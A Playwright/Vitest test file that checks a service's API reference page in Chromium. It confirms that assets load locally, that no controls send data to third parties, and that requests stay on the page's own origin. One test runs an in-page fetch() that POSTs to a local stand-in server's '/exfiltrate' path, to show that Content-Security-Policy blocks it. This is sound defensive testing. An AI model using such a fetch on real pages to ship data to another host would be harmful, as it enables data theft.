import { statSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HOME_PAGE } from '../../src/edge/openapi/reference-page.js';
import { chromiumFound, launchChromium } from '../helpers/browser.js';
import { ServiceProcess, freePort, tempDir } from '../helpers/process.js';

/** Controls of the hosted product that would send the API document or requests to a third party. */
const THIRD_PARTY_CONTROLS = /ask ai|mcp|deploy|share|developer tools/i;

/**
 * The reference page in a real browser, against the built service on a fresh embedded store.
 * The page does not touch the store, so one store is enough here.
 */
describe.skipIf(!chromiumFound)('API reference page in Chromium', () => {
  let service: ServiceProcess;
  let browser: Browser;
  let base: string;

  beforeAll(async () => {
    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    service = ServiceProcess.start(['serve'], { DATA_DIR: tempDir(), PORT: String(port), HOST: '127.0.0.1', LOG_LEVEL: 'warn' });
    await service.waitUntilReady(`${base}/readyz`);
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await service?.stop();
  });

  /** A fresh browser context that records every request its pages make and every CSP violation. */
  async function openRecorded(): Promise<{ context: BrowserContext; page: Page; requests: Request[]; violations: string[] }> {
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    const requests: Request[] = [];
    const violations: string[] = [];
    context.on('request', (request) => requests.push(request));
    const page = await context.newPage();
    page.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) violations.push(message.text());
    });
    return { context, page, requests, violations };
  }

  const foreign = (requests: Request[]) =>
    requests.map((r) => r.url()).filter((url) => !url.startsWith('data:') && new URL(url).origin !== base);

  it('renders the API at /docs/ with nothing fetched from another host', async () => {
    const { context, page, requests, violations } = await openRecorded();
    try {
      await page.goto(`${base}${HOME_PAGE}`, { waitUntil: 'networkidle' });
      expect(new URL(page.url()).pathname).toBe('/docs/');
      expect(await page.title()).toBe('Usage-Governance Service API');
      await expect.poll(() => page.getByRole('heading', { name: 'Usage-Governance Service API' }).count(), { timeout: 15_000 }).toBeGreaterThan(0);
      await expect.poll(() => page.getByText('Log in', { exact: true }).first().isVisible(), { timeout: 15_000 }).toBe(true);

      // The typefaces are this service's own: they loaded, from /docs/fonts.
      const loadedFamilies = await page.evaluate<string[]>(`document.fonts.ready.then((fonts) =>
        [...fonts].filter((font) => font.status === 'loaded').map((font) => font.family.replaceAll('"', '')))`);
      expect(loadedFamilies).toEqual(expect.arrayContaining(['Inter', 'JetBrains Mono']));
      expect(requests.map((r) => new URL(r.url()).pathname)).toEqual(expect.arrayContaining([
        '/docs/js/scalar.js', '/api/v1/openapi.json', '/docs/fonts/inter-latin-wght-normal.woff2',
      ]));

      expect(await page.getByRole('button', { name: THIRD_PARTY_CONTROLS }).count()).toBe(0);
      expect(await page.getByRole('link', { name: THIRD_PARTY_CONTROLS }).count()).toBe(0);
      expect(await page.getByText(/^(ask ai|ask ai agent|generate mcp|connect mcp|deploy|share)$/i).count()).toBe(0);

      const screenshot = join(tempDir('ugs-docs-'), 'reference.png');
      await page.screenshot({ path: screenshot, fullPage: false });
      expect(statSync(screenshot).size).toBeGreaterThan(10_000);
      console.log(`reference page screenshot: ${screenshot}`);

      expect(foreign(requests)).toEqual([]);
      expect(violations).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("sends a test request from the page's client to this service, and nowhere else", async () => {
    const { context, page, requests, violations } = await openRecorded();
    try {
      await page.goto(`${base}/docs/`, { waitUntil: 'networkidle' });
      await page.getByRole('button', { name: /test request/i }).first().click();
      // The first operation of the page (logging in): the client sends it here, and shows the answer.
      const answered = page.waitForResponse((response) => new URL(response.url()).pathname.startsWith('/api/v1/'));
      await page.getByRole('button', { name: /^send/i }).first().click();
      const answer = await answered;
      expect(new URL(answer.url()).origin).toBe(base);
      expect(answer.status()).toBeGreaterThanOrEqual(200);
      await expect.poll(() => page.getByText(String(answer.status())).first().isVisible(), { timeout: 15_000 }).toBe(true);
      expect(foreign(requests)).toEqual([]);
      expect(violations).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('holds the page to this origin: a script on it cannot reach another host (Content-Security-Policy)', async () => {
    let reached = 0;
    const elsewhere = createServer((_request, response) => {
      reached += 1;
      response.end('ok');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const { context, page, violations } = await openRecorded();
    try {
      await page.goto(`${base}/docs/`, { waitUntil: 'networkidle' });
      const outcome = await page.evaluate<string>(`fetch('${other}/exfiltrate', { method: 'POST', mode: 'no-cors', body: 'x' })
        .then(() => 'sent', () => 'refused')`);
      expect(outcome).toBe('refused');
      expect(reached).toBe(0);
      expect(violations.join('\n')).toMatch(/connect-src 'self'/);
    } finally {
      await context.close();
      await new Promise((resolve) => elsewhere.close(resolve));
    }
  });
});
